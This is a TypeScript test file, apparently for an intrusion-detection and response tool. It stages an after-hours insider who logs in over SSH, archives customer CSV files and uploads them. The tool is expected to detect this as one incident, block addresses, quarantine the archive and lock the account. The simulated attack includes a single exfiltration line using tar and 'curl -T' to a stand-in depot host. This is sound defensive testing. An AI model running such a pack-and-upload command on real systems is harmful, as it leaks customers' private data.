/** (g) Somebody who may log on does so at night, packs a folder of customers' data and sends it away. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario, visitor } from '../scenario-host.ts';
import { reported } from './report.ts';
import { admin, adminWord, depot, ordinaryLoad, prove, type Scene, serveSsh, serveUploads, ssh, startScene } from './scene.ts';

const files = 400;
/** Hours in which it is not working time now, nor soon. */
const away = (hour: number): string => `${(hour + 3) % 24}-${(hour + 12) % 24}`;

describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/python3']) || await lacksKernel())('(g) an insider at night', () => {
  const received = mkdtempSync(join(tmpdir(), 'moat-received-'));
  let scene: Scene;

  beforeAll(async () => {
    scene = await startScene({
      settings: { 'login-hours': { work: away(new Date().getHours()) } },
      async ready(host) {
        await serveSsh(host, 'not known to anybody 7');
        await ordinaryLoad(host);
        const gid = Number(await host.must('id', '-g', admin));
        for (let i = 0; i < files; i++) host.plant(`/srv/customers/2026/${i}.csv`, Array.from({ length: 40 }, (_, k) => `${i * 40 + k},name ${k},1${String(3_000_000_000 + i * 40 + k).slice(0, 10)}\n`).join(''), { mode: 0o640, gid });
      },
    });
    await serveUploads(scene.host, received);
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(received, { recursive: true, force: true });
  });

  it('is one incident from the log-on to what left, and says that this cannot be brought back', async () => {
    const { host } = scene;
    const taken = await ssh(host, visitor, admin, adminWord, `cat /srv/customers/2026/*.csv | wc -l && tar czf /var/tmp/holiday.tgz -C /srv customers && curl -sS -T /var/tmp/holiday.tgz http://${depot}/in/`);
    expect(taken).toMatchObject({ code: 0 });
    expect(readdirSync(received)).toHaveLength(1);
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'login', address: visitor, user: admin }, level: 'critical', grade: 2,
      steps: [`block-address ${visitor}`, `block-address ${depot}`, 'quarantine-file /var/tmp/holiday.tgz', `lock-account account ${admin}`],
      checks: ['accounts', 'cron', 'ssh-keys', 'odd-file'], running: /holiday|customers/,
      // The account is locked, that is what was wanted.
      stays: [/^\/etc\/(?:shadow|passwd)-?$/],
      after() {
        expect(readFileSync(join(host.root, 'etc/shadow'), 'utf8').split('\n').find((line) => line.startsWith(`${admin}:`))).toMatch(/^harbour:!/);
        expect(statSync(join(host.root, 'srv/customers/2026/399.csv')).size).toBeGreaterThan(500);
      },
    });
    expect(plan.left_alone.map(({ why }) => why.en).join('\n')).toContain('cannot be brought back');
    const { alerts } = reported(scene, incident, plan, { says: [visitor, admin, depot, '/var/tmp/holiday.tgz', 'cannot be brought back'], data: /holiday\.tgz/ });
    expect(alerts.items.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['behaviour.login-hours', 'data_folder_packed', 'sensitive_file_uploaded']));
  });
});
